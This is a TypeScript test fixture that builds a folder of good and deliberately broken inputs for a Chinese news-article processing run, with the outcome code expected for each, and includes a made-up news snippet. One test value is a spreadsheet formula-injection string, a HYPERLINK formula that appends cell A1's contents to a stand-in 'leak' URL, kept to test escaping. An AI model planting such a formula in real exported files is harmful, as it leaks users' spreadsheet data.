// The bad-input corpus of the run tests, made by the tests in a temp folder: one folder of real articles
// copied from data/ (good/) and one of broken, odd or hostile inputs (bad/), each with the outcome the run
// must give it. Shared by accounting.test.ts (in-process and CLI) and the other run tests.
import { copyFileSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { DATA } from '../helpers.ts';

/** What the run must make of one input: `ok`, a failure code (E_*) or a skip code (S_*). */
export interface Outcome {
  /** The input as run.json and articles.csv name it (a path, with `:line` for a table row). */
  input: string;
  /** The article_id when it is known in advance. */
  id?: string;
  outcome: string;
}

export interface Corpus {
  root: string;
  good: string;
  bad: string;
  /** An input path that does not exist. */
  missing: string;
  /** article_ids of the real articles in good/. */
  goodIds: string[];
  /** Every input of [good, bad, missing], in run order. */
  expected: Outcome[];
  /** Removes the whole temp folder (the 40 MB file with it). */
  cleanup(): void;
}

/** A made-up article with a meeting, an official and two directives. */
export const MADE_UP_TEXT =
  '1月17日晚，省委书记刘国中出席西安市疫情防控调度会。他强调，要坚决打赢疫情防控攻坚战，确保人民群众生命安全。刘国中要求，各级各部门要压实责任，加强核酸检测。';

/** A CSV cell of a row that a spreadsheet would run as a formula if the writer did not escape it. */
export const FORMULA_TITLE = '=HYPERLINK("http://example.invalid/?leak="&A1,"点击查看")西安市召开会议';
export const FORMULA_TEXT =
  '1月17日，省委书记刘国中出席西安市疫情防控调度会。他强调，=SUM(A1:A9)要坚决打赢疫情防控攻坚战。刘国中要求，+各级各部门要压实责任。他指出，-要加强核酸检测。他强调，@要做好物资保障。';

/** 300 bytes of UTF-8: more than a file name may hold. */
export const LONG_ID = '西安市疫情防控调度会'.repeat(10);

const GOOD_FILES = ['d06.html', 'd07.txt', 'xwlb.csv'];
const HUGE_BYTES = 40_000_000;

export function makeCorpus(opts: { huge: boolean }): Corpus {
  const root = mkdtempSync(join(tmpdir(), 'cge-corpus-'));
  const good = join(root, 'good');
  const bad = join(root, 'bad');
  mkdirSync(good);
  mkdirSync(bad);
  for (const f of GOOD_FILES) copyFileSync(join(DATA, f), join(good, f));
  const expected: Outcome[] = [];
  // good/ in walk order (sorted names); the CSV's rows at the line each record starts on.
  expected.push({ input: join(good, 'd06.html'), id: 'd06', outcome: 'ok' });
  expected.push({ input: join(good, 'd07.txt'), id: 'd07', outcome: 'ok' });
  const xwlb = readFileSync(join(DATA, 'xwlb.csv'), 'utf8');
  const xwlbLines = xwlb.split('\n');
  for (const [id] of (parse(xwlb, { bom: true }) as string[][]).slice(1)) {
    expected.push({ input: `${join(good, 'xwlb.csv')}:${xwlbLines.findIndex((l) => l.startsWith(`${id},`)) + 1}`, id, outcome: 'ok' });
  }

  const put = (name: string, data: string | Uint8Array) => writeFileSync(join(bad, name), data);
  const want = (name: string, outcome: string, id?: string) => expected.push({ input: join(bad, name), outcome, ...(id ? { id } : {}) });
  // bad/ in walk order: '.' sorts first, then lower-case names.
  put('.DS_Store', Buffer.from('Bud1\u0000\u0000\u0000', 'latin1'));
  want('.DS_Store', 'S_HIDDEN');

  // Gzip's magic bytes, then garbage: a table (read as a stream) and a page (read whole).
  put('broken.csv.gz', Buffer.concat([Buffer.from([0x1f, 0x8b, 0x08, 0x00]), pseudoRandomBytes(64)]));
  want('broken.csv.gz', 'E_READ');
  put('broken.txt.gz', Buffer.concat([Buffer.from([0x1f, 0x8b, 0x08, 0x00]), pseudoRandomBytes(64)]));
  want('broken.txt.gz', 'E_READ', 'broken');

  put('dupes.csv', csv([['id', 'title', 'published_at', 'text'], ['dup-1', '第一篇', '2022-01-19', MADE_UP_TEXT], ['dup-1', '第二篇', '2022-01-19', MADE_UP_TEXT]]));
  want('dupes.csv:2', 'ok', 'dup-1');
  want('dupes.csv:3', 'E_DUPLICATE_ID', 'dup-1');

  put('empty.txt', '');
  want('empty.txt', 'E_EMPTY', 'empty');

  // One row with an id of a good article (d07, read earlier from good/), a broken line, a line that is JSON but no object.
  put('feed.jsonl', [JSON.stringify({ id: 'd07', title: '重复', text: MADE_UP_TEXT }), '{"id": "j2", "text": "未结束', '["not", "an", "object"]', ''].join('\n'));
  want('feed.jsonl:1', 'E_DUPLICATE_ID', 'd07');
  want('feed.jsonl:2', 'E_JSON');
  want('feed.jsonl:3', 'E_JSON');

  put('formula.csv', csv([['id', 'title', 'published_at', 'text'], ['formula-1', FORMULA_TITLE, '2022-01-19', FORMULA_TEXT]]));
  want('formula.csv:2', 'ok', 'formula-1');

  // d06 is GBK bytes: relabel it UTF-8. d05 is UTF-8 bytes: relabel it GB2312.
  const d06 = readFileSync(join(DATA, 'd06.html'));
  put('gbk-says-utf8.html', replaceBytes(d06, 'charset=GB2312', 'charset=utf-8'));
  want('gbk-says-utf8.html', 'ok', 'gbk-says-utf8');
  if (opts.huge) {
    // Real text repeated past the default --max-bytes (20 MB): refused before it is read.
    put('huge.txt', Buffer.alloc(HUGE_BYTES, '会议强调，要坚决打赢疫情防控攻坚战，确保人民群众生命安全。\n'));
    want('huge.txt', 'E_TOO_LARGE', 'huge');
  }
  // Ids that are distinct but would share texts/a_b.txt, and one too long for a file name.
  put('ids.csv', csv([['id', 'text'], ['a?b', MADE_UP_TEXT], ['a*b', FORMULA_TEXT], ['A?B', FORMULA_TEXT], [LONG_ID, MADE_UP_TEXT]]));
  want('ids.csv:2', 'ok', 'a?b');
  want('ids.csv:3', 'E_DUPLICATE_ID', 'a*b');
  want('ids.csv:4', 'E_DUPLICATE_ID', 'A?B');
  want('ids.csv:5', 'ok', LONG_ID);

  // Random bytes with NULs, named like a page.
  put('junk.html', pseudoRandomBytes(8192));
  want('junk.html', 'E_BINARY', 'junk');

  put('no-text.csv', csv([['id', 'title', 'body'], ['n1', '标题', MADE_UP_TEXT]]));
  want('no-text.csv:1', 'E_TABLE_NO_TEXT');

  // Row 2 lacks its text cell, row 3 has one cell too many, row 4 has an empty text.
  put('ragged.csv', csv([['id', 'title', 'published_at', 'text'], ['r1', '标题', '2022-01-19'], ['r2', '标题', '2022-01-19', MADE_UP_TEXT, 'extra'], ['r3', '标题', '2022-01-19', '  ']]));
  want('ragged.csv:2', 'E_ROW_COLUMNS');
  want('ragged.csv:3', 'E_ROW_COLUMNS');
  want('ragged.csv:4', 'E_EMPTY', 'r3');

  put('report.docx', Buffer.concat([Buffer.from('PK\u0003\u0004', 'latin1'), pseudoRandomBytes(512)]));
  want('report.docx', 'S_FORMAT');
  put('scan.pdf', '%PDF-1.4\n%âãÏÓ\n1 0 obj\n<< /Type /Catalog >>\nendobj\n');
  want('scan.pdf', 'S_FORMAT');

  // A UTF-8 page cut off past its middle, inside a Chinese character: no closing tags, a partial character.
  put('truncated.html', truncatedPage(readFileSync(join(DATA, 'd05.html'))));
  want('truncated.html', 'ok', 'truncated');

  const d05 = readFileSync(join(DATA, 'd05.html'));
  put('utf8-says-gb2312.html', replaceBytes(d05, 'charset=UTF-8', 'charset=gb2312'));
  want('utf8-says-gb2312.html', 'ok', 'utf8-says-gb2312');

  const missing = join(root, 'no-such-folder');
  expected.push({ input: missing, outcome: 'E_NOT_FOUND' });

  return {
    root,
    good,
    bad,
    missing,
    goodIds: expected.filter((e) => e.input.startsWith(good)).map((e) => e.id!),
    expected,
    cleanup: () => rmSync(root, { recursive: true, force: true }),
  };
}

export function csv(rows: string[][]): string {
  return rows.map((r) => r.map((c) => (/[",\n\r]/.test(c) ? `"${c.replace(/"/g, '""')}"` : c)).join(',')).join('\n') + '\n';
}

export function replaceBytes(buf: Buffer, from: string, to: string): Buffer {
  const at = buf.indexOf(from);
  if (at < 0) throw new Error(`fixture: "${from}" not found`);
  return Buffer.concat([buf.subarray(0, at), Buffer.from(to), buf.subarray(at + from.length)]);
}

/** The page cut at a UTF-8 continuation byte past its middle: the last character is incomplete. */
export function truncatedPage(page: Buffer): Buffer {
  let at = Math.floor(page.length * 0.6);
  while (!(page[at] >= 0x80 && page[at] < 0xc0)) at++;
  return page.subarray(0, at);
}

/** Deterministic noise (a linear congruential generator), so every run reads the same junk. */
export function pseudoRandomBytes(n: number): Buffer {
  const out = Buffer.alloc(n);
  let x = 12345;
  for (let i = 0; i < n; i++) {
    x = (x * 1103515245 + 12345) >>> 0;
    out[i] = x >>> 24;
  }
  return out;
}

/** A table's bytes and its records with the exact bytes each was written as. */
export function tableRecords(path: string): { head: string; records: { cells: string[]; raw: string }[] } {
  const text = readFileSync(path, 'utf8');
  const parsed = parse(text, { bom: true, raw: true }) as unknown as { record: string[]; raw: string }[];
  const [header, ...rest] = parsed;
  return { head: header.raw, records: rest.map((r) => ({ cells: r.record, raw: r.raw })) };
}
